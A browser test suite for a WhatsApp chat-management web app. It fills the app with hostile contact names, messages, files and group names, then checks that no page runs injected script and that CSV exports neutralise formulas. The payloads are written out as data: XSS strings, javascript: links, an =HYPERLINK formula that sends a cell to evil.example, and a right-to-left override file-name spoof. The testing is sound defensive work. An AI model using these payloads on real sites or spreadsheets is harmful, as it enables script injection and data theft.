"""Names, texts, files and groups of a contact who wants to run something at a reader's browser, on every page."""

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.house import PASSWORD, House, house
from tests.browser.person import Person
from tests.loopback import Actor

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.sqlite_only]

# Whatever of it becomes an element is found by its attribute, whatever runs by what it does.
HTML = "\"'></title></textarea><img data-evil src=/evil onerror=alert(1)><script data-evil>alert(2)</script>"
LINK = (
    'javascript:alert(3) https://a.example/"onmouseover="alert(4) https://b.example/<b/data-evil> {{7*7}} ${alert(5)}'
)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
# Turns what follows around, and shows nothing; never closed.
TURNED = "\u202egpj.exe \u2066\u200b"
NAMES = [HTML, FORMULA, "@SUM(1)", TURNED + "Bob", "\u200b\u2060", "\x00\ud800", "-1+1", "\t=1", "x" * 200]

SEED = """
import itertools, json
from datetime import timedelta
from django.utils import timezone
from chats.intake import take_in
from chats.models import Batch, BatchItem, Chat, Message, Schedule
from instances.models import Instance
from instances.whatsapp.events import GroupChanged, MessageArrived, Party, Target
shop, now, numbers = Instance.objects.get(uid={shop!r}), timezone.now() - timedelta(hours=1), itertools.count()
names, html, link, turned = {names!r}, {html!r}, {link!r}, {turned!r}
def said(who, text, kind="text", **more):
    number = next(numbers)
    chat = more.pop("chat", None) or Party(f"55{{who:011}}@s.whatsapp.net")
    return MessageArrived(
        f"EVIL{{number}}", chat, Party(f"55{{who:011}}@s.whatsapp.net"), chat.jid.endswith("@g.us"), False,
        now + timedelta(seconds=number), kind, text, names[who % len(names)], **more)
events = []
for who, name in enumerate(names):
    events += [
        said(who, html + " evil"), said(who, link + " evil"), said(who, "=1+1 evil"), said(who, turned + " evil"),
        said(who, name + " evil"),
        said(who, name, "document", data={{"fileName": name + ".html", "mimetype": html, "length": 2**64 - 1}}),
        said(who, name, "location", data={{"latitude": float("nan"), "longitude": 1e308}}),
        said(who, name, "poll", data={{"options": [html, name]}}),
        said(who, name, "contact", data={{"vcards": [html]}}),
        said(who, "", "voice", data={{"seconds": 2**32 - 1, "length": 2**63}}),
        said(who, html, "reaction", target=Target("EVIL0", False)),
        said(who, "", "pin", pin_duration=2**32 - 1, target=Target(f"EVIL{{who * 13}}", True)),
        said(who, "evil in the group", chat=Party(f"12036{{who}}@g.us")),
    ]
    group = GroupChanged(f"12036{{who}}@g.us", now, name=name, text=html, actor=Party(f"55{{who:011}}@s.whatsapp.net"))
    events.append(group)
for event in events:
    take_in(shop, [event])
Instance.objects.filter(pk=shop.pk).update(push_name=html, state_detail=html)
message = Message.objects.filter(text__contains="evil").order_by("pk").first()
due = now + timedelta(days=2)
Schedule.objects.create(
    message=message, actor=html, starts_at=due, due_at=due, try_at=due, zone="UTC", duration=86_400,
    step=Schedule.Step.PIN)
done = Batch.objects.create(
    instance=shop, action="pin", duration=86_400, digest="x", actor=html, state=Batch.State.DONE, created_at=now,
    ended_at=now)
for one in Message.objects.filter(kind="text")[:20]:
    BatchItem.objects.create(batch=done, message=one, called=one.message_id, state="failed", detail=html, at=now)
places = [f"/chats/{{pk}}/" for pk in Chat.objects.values_list("pk", flat=True)]
places += [f"/messages/{{pk}}/" for pk in Message.objects.order_by("pk").values_list("pk", flat=True)[:14]]
print("RESULT", json.dumps(places))
"""
WATCH = """
window.broken = [];
addEventListener("securitypolicyviolation", (event) => broken.push(event.violatedDirective + " " + event.blockedURI));
"""
# What became an element, a handler or a link that runs; and text that turns around what stands beside it.
LOOK = """() => {
    const found = [...window.broken];
    for (const one of document.querySelectorAll("*")) {
        if (one.hasAttribute("data-evil")) found.push("an element: " + one.outerHTML.slice(0, 90));
        for (const {name, value} of one.attributes) {
            if (name.startsWith("on")) found.push("a handler: " + name);
            if (["href", "src", "action"].includes(name) && /^\\s*(javascript|data|vbscript):/i.test(value))
                found.push("a link that runs: " + value.slice(0, 90));
        }
    }
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) {
        if (!walk.currentNode.data.includes("\\u202e")) continue;
        let one = walk.currentNode.parentElement;
        if (one.closest("script, template, option, title")) continue;
        // Within a line, what is isolated; a block turns nothing beyond itself.
        const isolated = () => /isolate|plaintext/.test(getComputedStyle(one).unicodeBidi);
        while (getComputedStyle(one).display === "inline" && !isolated()) one = one.parentElement;
        if (getComputedStyle(one).display === "inline") continue;
        const after = document.createRange();
        after.setStartAfter(walk.currentNode);
        after.setEnd(one, one.childNodes.length);
        if (after.toString().trim()) found.push("turns its neighbours: " + one.outerHTML.slice(0, 200));
    }
    return [...new Set(found)];
}"""


@pytest.fixture(scope="module")
def mean(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    with house(tmp_path_factory.mktemp("mean")) as built:
        yield built


class Watch:
    """A person who notices dialogs as well, and everything that is out of place on a page."""

    def __init__(self, person: Person) -> None:
        self.person, self.page = person, person.page
        self.page.add_init_script(WATCH)
        self.page.on("dialog", self._dialog)

    def _dialog(self, dialog: object) -> None:
        self.person.complaints.append("a dialog")
        dialog.dismiss()  # type: ignore[attr-defined]

    def look(self) -> list[str]:
        self.page.wait_for_timeout(50)
        found: list[str] = self.page.evaluate(LOOK)
        # A page that is not there is one of those looked at.
        said = [line for line in self.person.complaints if "404" not in line]
        found += said + [f"asked for {address}" for address in self.person.outside]
        self.person.complaints.clear()
        self.person.outside.clear()
        return found


@pytest.fixture
def alice(browser: Browser, mean: House) -> Iterator[Watch]:
    person = Person(browser, mean.url)
    yield Watch(person.sign_in("alice", PASSWORD))
    person.close()


def test_the_watch_sees(alice: Watch) -> None:
    alice.person.go("/chats/")
    assert alice.look() == []
    page: Page = alice.page
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', {json.dumps(HTML)})")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<p>a <i>\\u202eb</i> c</p>')")
    signs, found = ("an element", "a handler", "Content Security Policy", "script-src", "turns its neighbours"), ""
    for _ in range(200):  # The browser says some of it a moment later.
        found += " ".join(alice.look())
        if all(sign in found for sign in signs):
            break
    for sign in signs:
        assert sign in found


def test_nothing_runs_on_any_page(mean: House, alice: Watch) -> None:
    seed = SEED.format(shop=mean.shop, names=NAMES, html=HTML, link=LINK, turned=TURNED)
    places = mean.python(seed.replace("\ud800", "\\ud800"))
    lists = [
        "/chats/", "/search/?q=evil", "/search/?q=%3Cimg+data-evil%3E", "/pins/", "/pins/history/", "/pins/planned/",
        "/pins/many/", "/pins/rules/", "/pins/figures/", "/instances/", f"/instances/{mean.shop}/",
        f"/instances/{mean.shop}/webhooks/", "/preferences/", "/<img data-evil src=x>/",
        "/search/?q=" + "%E2%80%AE%22%3E%3Cscript%20data-evil%3E",
    ]  # fmt: skip
    found = {}
    for path in [*lists, *places]:
        alice.person.go(path)
        if problems := alice.look():
            found[path] = problems
    assert found == {}
    for query in ("q=evil&format=csv", "q=hyperlink&format=csv"):
        answer = alice.page.request.get(f"{mean.url}/search/export/?{query}")
        assert answer.ok, answer.status
        rows = list(csv.reader(io.StringIO(answer.text().lstrip("\ufeff"))))
        assert len(rows) > 5
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]


def test_nothing_runs_when_it_comes_live(mean: House, alice: Watch, tmp_path: Path) -> None:
    mean.link()
    evil = Actor(mean.wa, mean.wa.account(HTML, "5511940000666"), tmp_path, label="evil")
    with evil:
        alice.person.go("/chats/")
        alice.person.live()
        evil.send_text(mean.phone.jid, HTML)
        evil.create_group(HTML, [mean.phone.jid])
        alice.page.get_by_text("data-evil").first.wait_for()
        assert alice.look() == []
        message_id = evil.send_text(mean.phone.jid, LINK)
        mean.stored(message_id)
        chat = mean.python("""
            import json
            from chats.models import Chat
            print("RESULT", Chat.objects.get(jid__startswith="5511940000666").pk)
        """)
        alice.person.go(f"/chats/{chat}/")
        alice.person.live()
        evil.send_document(mean.phone.jid, HTML, HTML)
        evil.pin(mean.phone.jid, message_id, from_me=True)
        evil.edit(mean.phone.jid, message_id, HTML + " edited")
        alice.page.get_by_text("edited").first.wait_for()
        assert alice.look() == []
